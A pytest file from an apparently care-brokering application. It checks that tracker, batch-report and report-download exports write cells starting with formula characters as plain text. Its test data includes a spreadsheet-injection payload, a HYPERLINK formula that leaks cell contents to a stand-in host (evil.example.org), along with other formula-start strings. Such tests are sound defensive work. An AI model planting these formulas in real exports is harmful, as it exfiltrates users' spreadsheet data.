"""Formula injection (issue 12 finding 7): a text starting with =, +, -, @, a tab or a
carriage return is written as text in every export (the tracker, the batch report sent
to providers, the report downloads in .xlsx and CSV), by the one shared writer
(carebroker/exchange/spreadsheet.py). Each test reads the file written, so it fails as soon
as an export writes through anything else."""

import io
import zipfile
from datetime import timedelta

import openpyxl
import pytest

from carebroker.engine.inputs import Decision
from carebroker.exchange.batch_report import REPORT_SHEET, batch_reports
from carebroker.exchange.spreadsheet import FORMULA_STARTS, cell, csv_text, row
from carebroker.exchange.tracker import tracker_xlsx
from carebroker.reports.tables import Table, to_csv, to_xlsx
from carebroker.sourcing import runner
from carebroker.sourcing.models import Package
from tests.exchange.batch_world import BATCH_DAY, essex_batch
from tests.exchange.test_tracker_export import EXPORTED, tracked  # noqa: F401 (fixture)

LINK = '=HYPERLINK("http://evil.example.org/?leak="&A1,"Click for details")'
NASTY = [LINK, "=1+2", "+1+2", "-2+3", "@SUM(1,2)", "\t=1+2", "\r=1+2"]


def assert_no_formula(content: bytes, *expected: str) -> None:
    """No cell of any sheet is a formula; each expected text is there, as typed, as text."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
    book = openpyxl.load_workbook(io.BytesIO(content))
    found = {}
    for sheet in book.worksheets:
        for cells in sheet.iter_rows():
            for written in cells:
                assert written.data_type != "f", (sheet.title, written.coordinate)
                if isinstance(written.value, str):
                    found[written.value] = written
    for text in expected:
        assert text in found, text
        assert found[text].data_type == "s" and found[text].quotePrefix


@pytest.mark.parametrize("text", NASTY)
def test_the_shared_writer_writes_a_formula_start_as_text(text):
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(row(sheet, [text, 3, "plain"]))
    sheet.append([cell(sheet, text)])
    out = io.BytesIO()
    book.save(out)
    assert_no_formula(out.getvalue(), text)


def test_every_formula_start_is_covered():
    assert set(FORMULA_STARTS) == {"=", "+", "-", "@", "\t", "\r"}
    assert all(csv_text(text).startswith("'") for text in NASTY)
    assert csv_text("Alder Homecare") == "Alder Homecare"


@pytest.mark.django_db
def test_the_tracker_writes_a_providers_formula_name_and_a_cancel_reason_as_text(tracked):  # noqa: F811
    """The issue's provider name `=HYPERLINK(...)` and a cancel reason `=1+2`."""
    oak1 = tracked.providers[0]
    oak1.name = LINK
    oak1.save()
    runner.do_council(
        tracked.other,
        Decision(at=EXPORTED - timedelta(hours=1), actor="broker", action="cancel", reason="=1+2"),
    )
    assert_no_formula(tracker_xlsx(tracked.council, EXPORTED), LINK)


@pytest.mark.django_db
def test_the_batch_report_sent_to_providers_writes_formula_texts_as_text():
    """Texts a referrer typed (support type, specialisms) reach every provider's sheet."""
    world = essex_batch()
    Package.objects.filter(council=world.council, case_number="M4003").update(
        support_type="=1+2", specialisms=["@SUM(1,2)"]
    )
    [north] = [w for w in batch_reports(world.council, BATCH_DAY) if w.area == "North"]
    book = openpyxl.load_workbook(io.BytesIO(north.content))
    assert book[REPORT_SHEET]  # the sheet providers tick
    assert_no_formula(north.content, "=1+2")


def test_report_downloads_write_formula_texts_as_text():
    table = Table("t", "Providers", ("Provider", "Packages"), [(LINK, 3), ("-2+3", 1)])
    assert_no_formula(to_xlsx([table]), LINK, "-2+3")
    text = to_csv(table).decode("utf-8-sig")
    assert "'=HYPERLINK" in text and "'-2+3" in text
